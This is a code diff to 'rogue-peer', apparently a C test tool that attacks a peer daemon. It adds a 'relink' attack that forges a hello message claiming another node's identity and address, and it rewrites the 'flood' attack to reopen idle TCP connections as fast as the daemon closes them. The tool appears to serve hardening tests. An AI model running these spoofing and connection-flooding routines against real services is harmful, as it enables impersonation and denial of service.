@@ -16,6 +16,7 @@
  *   rogue-peer restart  --target A [--key F] --victim N --victim-address A [--devices D]
  *   rogue-peer members  --target A [--key F] --count N [--devices D]
  *   rogue-peer replay   --target A --key F
+ *   rogue-peer relink   --target A --key F --victim N --victim-address A
  *   rogue-peer flood    --target A --count N --hold-ms H [--bind HOST]
  */
 
@@ -281,6 +282,23 @@ static int attack_restart(Rogue *r, const Options *o) {
         return 0;
 }
 
+/* A member's own link, once believed, then used for another node's later start. */
+static int attack_relink(Rogue *r, const Options *o) {
+        _cleanup_(member_info_done) MemberInfo self = {}, forged = {};
+
+        fake_member(&self, o->name, o->address, -1, 0, now_unix_ms());
+        fake_member(&forged, o->victim, o->victim_address, -1, 1, now_unix_ms() + 3600 * 1000);
+        PeerMessage hello = { .body = PEER_HELLO, .sender = self, .version = 1 };
+        if (rogue_send(r, &hello) < 0)
+                return 3;
+        rogue_run(r, 300);
+        hello.sender = forged;
+        if (rogue_send(r, &hello) < 0)
+                return 3;
+        rogue_run(r, o->wait_ms);
+        return 0;
+}
+
 /* A hello listing --count made-up members of --devices devices each. */
 static int attack_members(Rogue *r, const Options *o) {
         _cleanup_(member_info_done) MemberInfo self = {};
@@ -330,13 +348,26 @@ static int attack_replay(Rogue *r, const Options *o) {
         return 0;
 }
 
-/* Idle TCP connections to the peer port from --bind, each held --hold-ms or until closed,
- * --count of them in all. Prints how many the daemon closed before the hold was over. */
+static int flood_connect(const struct sockaddr_in *from, const struct sockaddr_in *to) {
+        int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+
+        if (fd < 0)
+                return -1;
+        if (bind(fd, (const struct sockaddr *) from, sizeof *from) < 0 ||
+            connect(fd, (const struct sockaddr *) to, sizeof *to) < 0) {
+                close(fd);
+                return -1;
+        }
+        return fd;
+}
+
+/* --count idle TCP connections to the peer port from --bind, for --hold-ms: each one the
+ * daemon closes is opened again (at most every 50 ms a round), as issue 16's flood did. */
 static int attack_flood(const Options *o) {
         _cleanup_free_ struct pollfd *fds = calloc(o->count ? o->count : 1, sizeof(struct pollfd));
         _cleanup_free_ char *host = NULL, *port = NULL;
         struct sockaddr_in to = { .sin_family = AF_INET }, from = { .sin_family = AF_INET };
-        unsigned opened = 0, closed_early = 0;
+        unsigned opened = 0, closed = 0;
 
         if (!fds || peer_address_split(o->target, &host, &port) < 0 ||
             inet_pton(AF_INET, host, &to.sin_addr) != 1 ||
@@ -345,33 +376,27 @@ static int attack_flood(const Options *o) {
                 return 1;
         }
         to.sin_port = htons((uint16_t) atoi(port));
-        for (unsigned i = 0; i < o->count; i++) {
-                int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
-                fds[i] = (struct pollfd) { .fd = -1 };
-                if (fd < 0)
-                        continue;
-                if (bind(fd, (struct sockaddr *) &from, sizeof from) < 0 ||
-                    connect(fd, (struct sockaddr *) &to, sizeof to) < 0) {
-                        close(fd);
-                        continue;
-                }
-                fds[i] = (struct pollfd) { .fd = fd, .events = POLLIN };
-                opened++;
-        }
+        for (unsigned i = 0; i < o->count; i++)
+                fds[i] = (struct pollfd) { .fd = -1, .events = POLLIN };
         for (int64_t end = now_ms() + o->hold_ms; now_ms() < end;) {
-                if (poll(fds, o->count, 100) <= 0)
-                        continue;
+                for (unsigned i = 0; i < o->count; i++)
+                        if (fds[i].fd < 0) {
+                                fds[i].fd = flood_connect(&from, &to);
+                                opened += fds[i].fd >= 0;
+                        }
+                (void) poll(fds, o->count, 50);
                 for (unsigned i = 0; i < o->count; i++)
                         if (fds[i].fd >= 0 && fds[i].revents) {
                                 close(fds[i].fd);
                                 fds[i].fd = -1;
-                                closed_early++;
+                                closed++;
                         }
+                usleep(50 * 1000);
         }
         for (unsigned i = 0; i < o->count; i++)
                 if (fds[i].fd >= 0)
                         close(fds[i].fd);
-        printf("flood: opened %u, closed by the daemon %u\n", opened, closed_early);
+        printf("flood: opened %u, closed by the daemon %u\n", opened, closed);
         return 0;
 }
 
@@ -420,7 +445,8 @@ static int parse(int argc, char **argv, Options *o) {
                 case 'j': o->join = true; break;
                 default: return -EINVAL;
                 }
-        if (!o->target || ((streq(o->command, "refuse") || streq(o->command, "restart")) &&
+        if (!o->target || ((streq(o->command, "refuse") || streq(o->command, "restart") ||
+                            streq(o->command, "relink")) &&
                            (!o->victim || !o->victim_address)))
                 return -EINVAL;
         return 0;
@@ -434,6 +460,7 @@ int main(int argc, char **argv) {
                 { "join", attack_join },       { "refuse", attack_refuse },
                 { "version", attack_version }, { "restart", attack_restart },
                 { "members", attack_members }, { "replay", attack_replay },
+                { "relink", attack_relink },
         };
         Rogue r = {};
         Options o;
@@ -441,7 +468,7 @@ int main(int argc, char **argv) {
 
         log_set_max_level(LOG_WARNING);
         if (parse(argc, argv, &o) < 0) {
-                fprintf(stderr, "usage: rogue-peer join|refuse|version|restart|members|replay|"
+                fprintf(stderr, "usage: rogue-peer join|refuse|version|restart|members|replay|relink|"
                                 "flood --target HOST:PORT [options] (see the source's DESIGN)\n");
                 return 1;
         }
